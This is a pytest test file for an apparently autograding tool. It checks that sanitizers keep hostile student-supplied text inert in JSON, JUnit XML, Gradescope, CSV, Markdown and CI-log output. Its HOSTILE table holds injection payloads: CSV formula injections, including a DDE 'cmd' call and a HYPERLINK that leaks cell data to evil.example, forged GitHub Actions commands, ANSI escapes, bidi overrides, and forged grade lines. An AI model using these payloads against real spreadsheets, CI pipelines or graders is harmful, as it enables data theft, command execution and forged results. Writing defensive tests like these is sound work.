"""A hostile class's text is data, never layout: a table of hostile strings (folder names,
exception type names, messages, printed output) goes into every output format, and a real
parser reads each file back: no forged line, element, row or test, and no control, escape
or bidi character, no U+FFFF, no lone surrogate survives."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tutor.commands.grade import _Lines
from tutor.grading.formats import to_gradescope, to_json, to_junit, write_atomic, write_json
from tutor.grading.results import CheckResult, ExerciseReport
from tutor.textsafe import for_csv_cell, for_json, for_log, for_markdown, for_terminal, for_terminal_line, for_xml

HOSTILE = {
    "forged-grade-line": "bob\nGRADED zed  7/7",
    "forged-pass-line": "x\nPASS grading/forged  (0.01 s)",
    "forged-summary": "boom\n7 passed, 0 failed, 0 errored",
    "carriage-return": "boom\r7 passed, 0 failed",
    "unicode-line-separator": "a\u2028PASS b\u2029FAIL c",
    "actions-notice": "::notice title=graded::7/7 pass",
    "actions-after-newline": "x\n  ::error::forged\n##[warning]old\n\u3000::add-mask::k",
    "actions-legacy-mid-line": "see ##[set-output name=score;]7",
    "actions-percent-newline": "::notice::a%0A::error::b",
    "esc-sequences": "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b31m",
    "bidi": "\u202egnp.exe \u2066x\u2069 \u200e\u200f\u061c \u202a\u202b\u202c\u202d",
    "xml-invalid": "bad\uffff\ufffe\x00\x0b\x0c\x1f\x7f",
    "lone-surrogates": "lone \udc80 \ud800 pair",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "formula-tab": "\t=1+1",
    "formula-fullwidth": "\uff1d1+1",
    "xml-markup": '</failure></testcase><testcase name="forged"/><!--',
    "markdown": "| forged | 7/7 | ✅ pass |\n# owned [click](http://evil) ![i](http://x) <img src=x> **b** `c`",
    "long-name": "n" * 300,
}

#: What no field of any format may hold after it passed through tutor.textsafe.
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def assert_inert(text: str, *, one_line: bool) -> None:
    bad = [c for c in text if (unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t") or c in BIDI
           or c in "\ufffe\uffff\u2028\u2029"]
    assert not bad, (text, bad)
    text.encode("utf-8")  # no lone surrogate
    if one_line:
        assert "\n" not in text and "\t" not in text, text


def reports() -> list[ExerciseReport]:
    """One failed exercise per hostile string, which stands in every text field."""
    out = []
    for key, text in HOSTILE.items():
        checks = [CheckResult(name=f"check {text}", status="fail", message=f"{text}: wrong", expected=text, got=text, seed=3),
                  CheckResult(name="fine", status="pass")]
        out.append(ExerciseReport(id=f"grading/{key}-{text}", status="fail", message=f"TypeError{text} (line 2): {text}",
                                  output=f"printed {text}\n", checks=checks))
    return out


@pytest.mark.parametrize(("function", "text", "safe"), [
    (for_terminal, "\x1b[31mred\x1b[0m\r\nnext\u2028line\u202e", "red\nnext\nline"),
    (for_terminal_line, "bob\nGRADED zed  7/7", "bob\\nGRADED zed  7/7"),
    (for_terminal_line, "  ::notice::7/7\tpass", "  \\::notice::7/7 pass"),
    (for_log, "out\n  ::error::x\n\u00a0::add-mask::k\nsee ##[warning]y", "out\n  \\::error::x\n\u00a0\\::add-mask::k\nsee ##\\[warning]y"),
    (for_xml, "a\uffffb\x00c\ud800", "a\ufffdbc\ufffd"),
    (for_csv_cell, '=HYPERLINK("http://e")', '\'=HYPERLINK("http://e")'),
    (for_csv_cell, "alice", "alice"),
    (for_markdown, "[x](http://e) <b>", "\\[x\\]\\(http\\:\\/\\/e\\) \\<b\\>"),
], ids=["terminal", "line", "line-ci-command", "log", "xml", "csv-formula", "csv-plain", "markdown"])
def test_each_target_keeps_the_text_and_drops_only_its_power(function, text: str, safe: str) -> None:
    assert function(text) == safe
    assert function(safe) == safe or function is for_markdown  # safe text stays as it is


def test_json_data_keeps_its_shape_with_every_string_made_safe() -> None:
    assert for_json({"k\udc80": ["\u202ex", 1, None, {"n": "\x1b[2Jy"}]}) == {"k\ufffd": ["x", 1, None, {"n": "y"}]}


# --- the report files --------------------------------------------------------------


def test_the_json_report_reads_back_with_one_exercise_per_report_and_inert_text(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    write_json(path, to_json(reports()))
    data = json.loads(path.read_bytes().decode("utf-8", "strict"))
    assert len(data["exercises"]) == len(HOSTILE) and data["summary"] == {"passed": 0, "failed": len(HOSTILE), "errored": 0}
    for exercise, key in zip(data["exercises"], HOSTILE):
        assert exercise["id"].startswith(f"grading/{key}-") and len(exercise["checks"]) == 2
        for text in (exercise["id"], exercise["message"], exercise["output"]):
            assert_inert(text, one_line=False)
        for check in exercise["checks"]:
            for text in (check["name"], check["message"], check["expected"], check["got"]):
                assert_inert(text, one_line=False)


def test_the_junit_report_parses_with_one_testcase_per_report_and_one_line_per_check(tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_atomic(path, to_junit(reports()))
    suite = ET.parse(path).getroot().find("testsuite")  # U+FFFF or a control would make this raise
    assert suite is not None and suite.get("tests") == str(len(HOSTILE)) and suite.get("failures") == str(len(HOSTILE))
    cases = suite.findall("testcase")
    assert len(cases) == len(HOSTILE) and not suite.findall(".//testcase[@name='forged']")
    for case, key in zip(cases, HOSTILE):
        assert case.get("name", "").startswith(f"{key}-")
        assert [child.tag for child in case] == ["failure", "system-out"]
        failure = case.find("failure")
        assert failure is not None and failure.text is not None
        for text in (case.get("name", ""), case.get("classname", ""), failure.get("message", "")):
            assert_inert(text, one_line=True)
        lines = failure.text.splitlines()
        assert len(lines) == 2 and lines[0].startswith("[fail] check ") and lines[1] == "[pass] fine"
        assert_inert(failure.text, one_line=False)
        assert_inert(case.findtext("system-out", ""), one_line=False)


def test_gradescope_results_read_back_with_one_test_per_check_and_one_line_names(tmp_path: Path) -> None:
    path = tmp_path / "results.json"
    write_json(path, to_gradescope(reports()))
    data = json.loads(path.read_bytes().decode("utf-8", "strict"))
    assert len(data["tests"]) == 2 * len(HOSTILE)
    assert [t["status"] for t in data["tests"]] == ["failed", "passed"] * len(HOSTILE)
    for test in data["tests"]:
        assert_inert(test["name"], one_line=True)
        assert_inert(test["output"], one_line=False)
    for test, text in zip(data["tests"][::2], HOSTILE.values()):
        # The message's own line breaks cannot pass for the "expected:" / "got:" lines.
        lines = test["output"].split("\n")
        assert lines[0] == for_terminal_line(f"{text}: wrong") and lines[1].startswith("expected: ")
        assert [line for line in lines if line.startswith(("expected: ", "got: ", "seed: "))] == [
            lines[1], f"got: {lines[1].removeprefix('expected: ')}", "seed: 3"]


# --- the terminal and the CI log -----------------------------------------------------

# GitHub's runner reads a workflow command from a line that starts with "::" after
# leading white space, or a legacy one from "##[" anywhere in a line.
ACTIONS_COMMAND = re.compile(r"^\s*::|##\[")


def test_tutor_grades_printed_lines_are_one_line_per_verdict_and_no_ci_command(capsys) -> None:
    printer = _Lines(missing=set())
    for report in reports():
        printer.done(report)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2 * len(HOSTILE)  # "FAIL  id  (time)" and the indented message, each once
    for verdict, message, key in zip(lines[::2], lines[1::2], HOSTILE):
        assert verdict.startswith(f"FAIL  grading/{key}-") and message.startswith("      TypeError")
    for line in lines:
        assert_inert(line, one_line=True)
        assert not ACTIONS_COMMAND.search(line), line
        assert not re.match(r"\s*(GRADED|PASS|\d+ passed)", line), line


@pytest.mark.parametrize("key", HOSTILE)
def test_text_of_many_lines_for_a_log_starts_no_ci_command(key: str) -> None:
    text = for_log(f"stdout of the run\n{HOSTILE[key]}\n")
    assert_inert(text, one_line=False)
    assert not any(ACTIONS_COMMAND.search(line) for line in text.splitlines()), text
    assert for_terminal(text) == text  # idempotent: safe text stays as it is


# --- the gradebook CSV and the job summary -----------------------------------------


def test_csv_cells_read_back_as_one_row_each_and_never_as_formulas() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["student", "score"])
    for text in HOSTILE.values():
        writer.writerow([for_csv_cell(text), "7"])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert len(rows) == 1 + len(HOSTILE) and all(len(row) == 2 and row[1] == "7" for row in rows[1:])
    for (student, _), text in zip(rows[1:], HOSTILE.values()):
        assert_inert(student, one_line=True)
        assert not student.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), student
        assert student.removeprefix("'") == for_terminal_line(text).replace("\t", " ")  # the text, as data
    assert rows[1 + list(HOSTILE).index("formula-hyperlink")][0] == "'" + HOSTILE["formula-hyperlink"]


def test_a_job_summary_table_of_hostile_cells_renders_as_their_text_only() -> None:
    rows = [f"| {for_markdown(text)} | 7/7 |" for text in HOSTILE.values()]
    html = MarkdownIt("commonmark").enable("table").render("| Student | Score |\n| --- | ---: |\n" + "\n".join(rows) + "\n")
    assert html.count("<tr>") == 1 + len(HOSTILE) and html.count("<td") == 2 * len(HOSTILE)
    for tag in ("<a ", "<img", "<em>", "<strong>", "<code>", "<h1>", "<script", "<!--"):
        assert tag not in html, tag
    cells = re.findall(r"<td>(.*?)</td>", html)  # the student column (the score's is right-aligned)
    assert len(cells) == len(HOSTILE)
    for cell, text in zip(cells, HOSTILE.values()):
        shown = cell.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
        assert shown == for_terminal_line(text).strip()  # the text, character for character


# --- a real hand-in through the sandbox: an exception class with a hostile name ---------


@pytest.mark.slow
def test_an_exception_type_name_with_line_breaks_forges_nothing_in_any_format(sandbox, tmp_path, capsys) -> None:
    from tutor.grading.grade import grade_source
    from tutor.lessons import load_lessons

    exercise = load_lessons(Path(__file__).parent / "data").exercise("grading/softmax-rows")
    source = (
        "Forged = type('Boom\\nPASS  grading/softmax-rows  (0.01 s)\\n3 passed, 0 failed, 0 errored\\n::notice::7/7 pass'"
        ", (Exception,), {})\n"
        "print('\\x1b[2J\\u202eowned\\n::error::forged')\n"
        "def softmax_rows(X):\n    raise Forged('\\x1b]0;owned\\x07 \\uffff done')\n"
    )
    report = grade_source(exercise, source, sandbox, include_hidden=True)
    assert report.status == "fail" and "PASS" in report.message  # the name arrives whole: the outputs must cope

    _Lines(missing=set()).done(report)
    printed = capsys.readouterr().out.splitlines()
    assert len(printed) == 2 and printed[0].startswith("FAIL  grading/softmax-rows")
    assert not any(ACTIONS_COMMAND.search(line) or line.lstrip().startswith(("PASS", "3 passed")) for line in printed)
    assert "Boom\\nPASS" in printed[1]  # the line break shown, not made

    write_atomic(tmp_path / "junit.xml", to_junit([report]))
    case = ET.parse(tmp_path / "junit.xml").getroot().find("testsuite/testcase")
    assert case is not None and case.find("failure") is not None
    assert all(line.startswith("[") for line in (case.findtext("failure") or "").splitlines())
    assert_inert(case.findtext("system-out", ""), one_line=False)
    write_json(tmp_path / "gs.json", to_gradescope([report]))
    write_json(tmp_path / "r.json", to_json([report]))
    for name in ("gs.json", "r.json"):
        text = (tmp_path / name).read_bytes().decode("utf-8", "strict")
        assert "\\u001b" not in text and "\\u202e" not in text and "\\uffff" not in text
